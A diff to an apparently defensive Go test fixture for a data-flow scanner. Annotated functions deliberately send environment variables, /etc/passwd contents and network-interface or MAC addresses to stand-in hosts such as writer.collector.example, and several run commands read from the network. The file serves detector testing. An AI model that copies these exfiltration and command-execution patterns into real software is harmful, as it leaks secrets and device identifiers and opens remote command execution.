@@ -32,6 +32,15 @@ func dialledRead() {
 	exec.Command(string(b)).Run() //~ sink(exec.command) f2, finding(traced) f2
 }
 
+func dialledForWriter() {
+	c, _ := net.Dial("tcp", "writer.collector.example:443") //~ sink(egress.socket) f3, finding(traced) f3
+	sendThrough(c, os.Getenv("T")) //~ source(ENVIRONMENT) f3
+}
+
+func sendThrough(w io.Writer, text string) {
+	io.WriteString(w, text)
+}
+
 func dialledConstant() {
 	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ ok
 	c.Write([]byte("ping")) //~ ok
@@ -40,7 +49,7 @@ func dialledConstant() {
 func dialledAddress() {
 	a, _ := net.ResolveUDPAddr("udp", "udp.collector.example:53")
 	c, _ := net.DialUDP("udp", nil, a) //~ capability(NETWORK)
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f4, sink(egress.socket) f4, finding(traced) f4
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
 }
 
 func dialledAddressConstant(a *net.UDPAddr) {
@@ -50,7 +59,7 @@ func dialledAddressConstant(a *net.UDPAddr) {
 
 func dialledBy(d *net.Dialer) {
 	c, _ := tls.DialWithDialer(d, "tcp", "tls.collector.example:443", nil) //~ capability(NETWORK), endpoint("tls.collector.example:443")
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f8, sink(egress.socket) f8, finding(traced) f8
 }
 
 func dialledByConstant(d *net.Dialer) {
@@ -60,7 +69,7 @@ func dialledByConstant(d *net.Dialer) {
 
 func dialer(d net.Dialer) {
 	c, _ := d.Dial("tcp", "dialer.collector.example:443") //~ capability(NETWORK), endpoint("dialer.collector.example:443")
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f8, sink(egress.socket) f8, finding(traced) f8
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f10, sink(egress.socket) f10, finding(traced) f10
 }
 
 func dialerConstant(d net.Dialer) {
@@ -70,7 +79,7 @@ func dialerConstant(d net.Dialer) {
 
 func dialerContext(d net.Dialer, ctx context.Context) {
 	c, _ := d.DialContext(ctx, "tcp", "context.collector.example:443") //~ capability(NETWORK), endpoint("context.collector.example:443")
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f10, sink(egress.socket) f10, finding(traced) f10
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f12, sink(egress.socket) f12, finding(traced) f12
 }
 
 func dialerContextConstant(d net.Dialer, ctx context.Context) {
@@ -80,7 +89,7 @@ func dialerContextConstant(d net.Dialer, ctx context.Context) {
 
 func dialledLocal(a *net.UnixAddr) {
 	c, _ := net.DialUnix("unix", nil, a) //~ capability(IPC)
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f12, sink(egress.ipc) f12, finding(traced) f12
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f14, sink(egress.ipc) f14, finding(traced) f14
 }
 
 func dialledLocalConstant(a *net.UnixAddr) {
@@ -89,7 +98,7 @@ func dialledLocalConstant(a *net.UnixAddr) {
 }
 
 func local(c *net.UnixConn) {
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f14, sink(egress.ipc) f14, finding(traced) f14, capability(IPC)
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f16, sink(egress.ipc) f16, finding(traced) f16, capability(IPC)
 }
 
 func localConstant(c *net.UnixConn) {
@@ -98,9 +107,9 @@ func localConstant(c *net.UnixConn) {
 
 func listened() {
 	l, _ := net.Listen("tcp", ":80") //~ capability(NETWORK)
-	c, _ := l.Accept() //~ source(NETWORK) f16
+	c, _ := l.Accept() //~ source(NETWORK) f18
 	b, _ := io.ReadAll(c)
-	exec.Command(string(b)).Run() //~ sink(exec.command) f16, finding(traced) f16
+	exec.Command(string(b)).Run() //~ sink(exec.command) f18, finding(traced) f18
 }
 
 func listenedOnly() {
@@ -110,7 +119,7 @@ func listenedOnly() {
 
 func accepted(l net.Listener) {
 	c, _ := l.Accept() //~ capability(NETWORK)
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f20, sink(egress.socket) f20, finding(traced) f20
 }
 
 func acceptedConstant(l net.Listener) {
@@ -120,7 +129,7 @@ func acceptedConstant(l net.Listener) {
 
 func packets(a net.Addr) {
 	p, _ := net.ListenPacket("udp", ":0") //~ capability(NETWORK)
-	p.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f20, sink(egress.socket) f20, finding(traced) f20
+	p.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f22, sink(egress.socket) f22, finding(traced) f22
 }
 
 func packetsConstant(a net.Addr) {
@@ -129,7 +138,7 @@ func packetsConstant(a net.Addr) {
 }
 
 func sent(c net.Conn) {
-	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f22, sink(egress.socket) f22, finding(traced) f22, capability(NETWORK)
+	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f24, sink(egress.socket) f24, finding(traced) f24, capability(NETWORK)
 }
 
 func sentConstant(c net.Conn) {
@@ -137,7 +146,7 @@ func sentConstant(c net.Conn) {
 }
 
 func sentTo(c net.PacketConn, a net.Addr) {
-	c.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f24, sink(egress.socket) f24, finding(traced) f24, capability(NETWORK)
+	c.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f26, sink(egress.socket) f26, finding(traced) f26, capability(NETWORK)
 }
 
 func sentToConstant(c net.PacketConn, a net.Addr) {
@@ -145,8 +154,8 @@ func sentToConstant(c net.PacketConn, a net.Addr) {
 }
 
 func sentFrom(c *net.TCPConn) {
-	f, _ := os.Open("/etc/passwd") //~ source(FILE) f26
-	c.ReadFrom(f) //~ sink(egress.socket) f26, finding(traced) f26, capability(NETWORK)
+	f, _ := os.Open("/etc/passwd") //~ source(FILE) f28
+	c.ReadFrom(f) //~ sink(egress.socket) f28, finding(traced) f28, capability(NETWORK)
 }
 
 func sentFromConstant(c *net.TCPConn) {
@@ -155,8 +164,8 @@ func sentFromConstant(c *net.TCPConn) {
 
 func received(c net.Conn) {
 	b := make([]byte, 64)
-	n, _ := c.Read(b) //~ source(NETWORK) f28, capability(NETWORK)
-	exec.Command(string(b[:n])).Run() //~ sink(exec.command) f28, finding(traced) f28
+	n, _ := c.Read(b) //~ source(NETWORK) f30, capability(NETWORK)
+	exec.Command(string(b[:n])).Run() //~ sink(exec.command) f30, finding(traced) f30
 }
 
 func receivedUnused(c net.Conn) {
@@ -164,8 +173,8 @@ func receivedUnused(c net.Conn) {
 }
 
 func receivedLine(c net.Conn) {
-	line, _ := bufio.NewReader(c).ReadString('\n') //~ source(NETWORK) f30, capability(NETWORK)
-	exec.Command(line).Run() //~ sink(exec.command) f30, finding(traced) f30
+	line, _ := bufio.NewReader(c).ReadString('\n') //~ source(NETWORK) f32, capability(NETWORK)
+	exec.Command(line).Run() //~ sink(exec.command) f32, finding(traced) f32
 }
 
 func receivedLineUnused(c net.Conn) {
@@ -173,8 +182,8 @@ func receivedLineUnused(c net.Conn) {
 }
 
 func receivedAll(c net.Conn) {
-	b, _ := io.ReadAll(c) //~ source(NETWORK) f32
-	exec.Command(string(b)).Run() //~ sink(exec.command) f32, finding(traced) f32
+	b, _ := io.ReadAll(c) //~ source(NETWORK) f34
+	exec.Command(string(b)).Run() //~ sink(exec.command) f34, finding(traced) f34
 }
 
 func receivedAllUnused(c net.Conn) {
@@ -182,9 +191,9 @@ func receivedAllUnused(c net.Conn) {
 }
 
 func receivedLines(c net.Conn) {
-	s := bufio.NewScanner(c) //~ source(NETWORK) f34
+	s := bufio.NewScanner(c) //~ source(NETWORK) f36
 	for s.Scan() {
-		exec.Command(s.Text()).Run() //~ sink(exec.command) f34, finding(traced) f34
+		exec.Command(s.Text()).Run() //~ sink(exec.command) f36, finding(traced) f36
 	}
 }
 
@@ -199,7 +208,7 @@ func closedConnection() {
 }
 
 func ownAddress(c net.Conn) {
-	http.Get(U + c.LocalAddr().String()) //~ source(DEVICE) f37, sink(egress.http) f37, finding(assumed) f37, capability(DEVICE)
+	http.Get(U + c.LocalAddr().String()) //~ source(DEVICE) f39, sink(egress.http) f39, finding(traced) f39, capability(DEVICE)
 }
 
 func ownAddressUnused(c net.Conn) {
@@ -208,7 +217,7 @@ func ownAddressUnused(c net.Conn) {
 
 func secured(c net.Conn) {
 	s := tls.Client(c, &tls.Config{}) //~ capability(NETWORK)
-	s.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f39, sink(egress.socket) f39, finding(traced) f39
+	s.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f41, sink(egress.socket) f41, finding(traced) f41
 }
 
 func securedConstant(c net.Conn) {
@@ -226,13 +235,13 @@ func resolvedConstant() {
 }
 
 func hostJoined() {
-	http.Get("https://" + net.JoinHostPort(os.Getenv("T"), "443")) //~ source(ENVIRONMENT) f43, sink(egress.http) f43, finding(traced) f43
+	http.Get("https://" + net.JoinHostPort(os.Getenv("T"), "443")) //~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45
 	http.Get("https://" + net.JoinHostPort("collector.example", "443")) //~ ok
 }
 
 func hostSplit() {
-	h, _, _ := net.SplitHostPort(os.Getenv("T")) //~ source(ENVIRONMENT) f44
-	http.Get(U + h) //~ sink(egress.http) f44, finding(traced) f44
+	h, _, _ := net.SplitHostPort(os.Getenv("T")) //~ source(ENVIRONMENT) f46
+	http.Get(U + h) //~ sink(egress.http) f46, finding(traced) f46
 }
 
 func hostSplitConstant() {
@@ -249,7 +258,7 @@ func localPairUnused() {
 }
 
 func rawSent(fd int, a syscall.Sockaddr) {
-	syscall.Sendto(fd, []byte(os.Getenv("T")), 0, a) //~ source(ENVIRONMENT) f48, sink(egress.socket) f48, finding(traced) f48, capability(NETWORK)
+	syscall.Sendto(fd, []byte(os.Getenv("T")), 0, a) //~ source(ENVIRONMENT) f50, sink(egress.socket) f50, finding(traced) f50, capability(NETWORK)
 }
 
 func rawSentConstant(fd int, a syscall.Sockaddr) {
@@ -258,8 +267,8 @@ func rawSentConstant(fd int, a syscall.Sockaddr) {
 
 func rawReceived(fd int) {
 	b := make([]byte, 64)
-	syscall.Recvfrom(fd, b, 0) //~ source(NETWORK) f50, capability(NETWORK)
-	exec.Command(string(b)).Run() //~ sink(exec.command) f50, finding(traced) f50
+	syscall.Recvfrom(fd, b, 0) //~ source(NETWORK) f52, capability(NETWORK)
+	exec.Command(string(b)).Run() //~ sink(exec.command) f52, finding(traced) f52
 }
 
 func rawReceivedUnused(fd int) {
@@ -267,13 +276,13 @@ func rawReceivedUnused(fd int) {
 }
 
 func rawFile(fd int) {
-	f, _ := os.Open("/etc/passwd") //~ source(FILE) f52
-	syscall.Sendfile(fd, int(f.Fd()), nil, 64) //~ sink(egress.socket) f52, MISSING: finding(traced) f52
+	f, _ := os.Open("/etc/passwd") //~ source(FILE) f54
+	syscall.Sendfile(fd, int(f.Fd()), nil, 64) //~ sink(egress.socket) f54, MISSING: finding(traced) f54
 }
 
 func rawFileDescriptor(fd int) {
-	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f53
-	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f53, finding(traced) f53, capability(NETWORK)
+	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f55
+	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f55, finding(traced) f55, capability(NETWORK)
 }
 
 func rawFileConstant(fd int) {
@@ -281,8 +290,8 @@ func rawFileConstant(fd int) {
 }
 
 func rawOpened(fd int) {
-	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f55, capability(FILES)
-	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f55, finding(traced) f55
+	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f57, capability(FILES)
+	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f57, finding(traced) f57
 }
 
 func rawOpenedOnly() {
@@ -290,10 +299,10 @@ func rawOpenedOnly() {
 }
 
 func rawRead(c net.Conn) {
-	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f57
+	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f59
 	b := make([]byte, 64)
 	syscall.Read(in, b)
-	c.Write(b) //~ sink(egress.socket) f57, finding(traced) f57
+	c.Write(b) //~ sink(egress.socket) f59, finding(traced) f59
 }
 
 func rawReadConstant(c net.Conn) {
@@ -304,7 +313,7 @@ func rawReadConstant(c net.Conn) {
 
 func procedure() {
 	c, _ := rpc.Dial("tcp", "rpc.collector.example:80") //~ capability(NETWORK), endpoint("rpc.collector.example:80")
-	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f59, sink(egress.message) f59, finding(traced) f59
+	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f61, sink(egress.message) f61, finding(traced) f61
 }
 
 func procedureConstant() {
@@ -313,13 +322,13 @@ func procedureConstant() {
 }
 
 func procedureCalled(c *rpc.Client) {
-	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f61, sink(egress.message) f61, finding(traced) f61, capability(NETWORK)
+	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f63, sink(egress.message) f63, finding(traced) f63, capability(NETWORK)
 }
 
 func procedureAnswer(c *rpc.Client) {
 	var answer string
-	c.Call("Next", 1, &answer) //~ source(NETWORK) f62
-	exec.Command(answer).Run() //~ sink(exec.command) f62, finding(traced) f62
+	c.Call("Next", 1, &answer) //~ source(NETWORK) f64
+	exec.Command(answer).Run() //~ sink(exec.command) f64, finding(traced) f64
 }
 
 func procedureCalledConstant(c *rpc.Client) {
@@ -327,7 +336,7 @@ func procedureCalledConstant(c *rpc.Client) {
 }
 
 func packetSent(h *pcap.Handle) {
-	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f64, sink(egress.socket) f64, finding(traced) f64, capability(NETWORK)
+	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f66, sink(egress.socket) f66, finding(traced) f66, capability(NETWORK)
 }
 
 func packetSentConstant(h *pcap.Handle) {
@@ -335,8 +344,8 @@ func packetSentConstant(h *pcap.Handle) {
 }
 
 func packetRead(h *pcap.Handle) {
-	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f66, capability(NETWORK)
-	exec.Command(string(b)).Run() //~ sink(exec.command) f66, finding(traced) f66
+	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f68, capability(NETWORK)
+	exec.Command(string(b)).Run() //~ sink(exec.command) f68, finding(traced) f68
 }
 
 func packetReadUnused(h *pcap.Handle) {
@@ -345,7 +354,7 @@ func packetReadUnused(h *pcap.Handle) {
 
 func captured() {
 	h, _ := pcap.OpenLive("eth0", 1600, true, pcap.BlockForever) //~ capability(NETWORK)
-	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f68, sink(egress.socket) f68, finding(traced) f68
+	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f70, sink(egress.socket) f70, finding(traced) f70
 }
 
 func capturedConstant() {
@@ -354,12 +363,41 @@ func capturedConstant() {
 }
 
 func packetMade(h *pcap.Handle) {
-	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f70
+	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f72
 	p := gopacket.NewPacket(b, nil, gopacket.Default)
-	exec.Command(string(p.ApplicationLayer().Payload())).Run() //~ sink(exec.command) f70, finding(assumed) f70
-	exec.Command(gopacket.NewPacket(b, nil, gopacket.Default)).Run() //~ sink(exec.command) f70, finding(traced) f70
+	exec.Command(string(p.ApplicationLayer().Payload())).Run() //~ sink(exec.command) f72, finding(assumed) f72
+	exec.Command(gopacket.NewPacket(b, nil, gopacket.Default)).Run() //~ sink(exec.command) f72, finding(traced) f72
 }
 
 func packetMadeConstant() {
 	exec.Command(gopacket.NewPacket([]byte("a"), nil, gopacket.Default)).Run() //~ ok
+}
+
+func addressText() {
+	all, _ := net.InterfaceAddrs() //~ source(DEVICE) f74
+	for _, one := range all {
+		http.Get(U + one.String()) //~ sink(egress.http) f74, finding(traced) f74
+	}
+}
+
+func addressTextConstant(a net.Addr) {
+	http.Get(U + a.String()) //~ ok
+}
+
+func hardwareAddress() {
+	all, _ := net.Interfaces() //~ source(DEVICE) f76
+	http.Get(U + all[0].HardwareAddr.String()) //~ sink(egress.http) f76, finding(traced) f76
+}
+
+func hardwareAddressConstant(i net.Interface) {
+	http.Get(U + i.HardwareAddr.String()) //~ ok
+}
+
+func interfaceAddresses(i net.Interface) {
+	all, _ := i.Addrs() //~ source(DEVICE) f78, capability(DEVICE)
+	http.Get(U + all[0].String()) //~ sink(egress.http) f78, finding(traced) f78
+}
+
+func interfaceAddressesUnused(i net.Interface) {
+	i.Addrs() //~ ok
 }
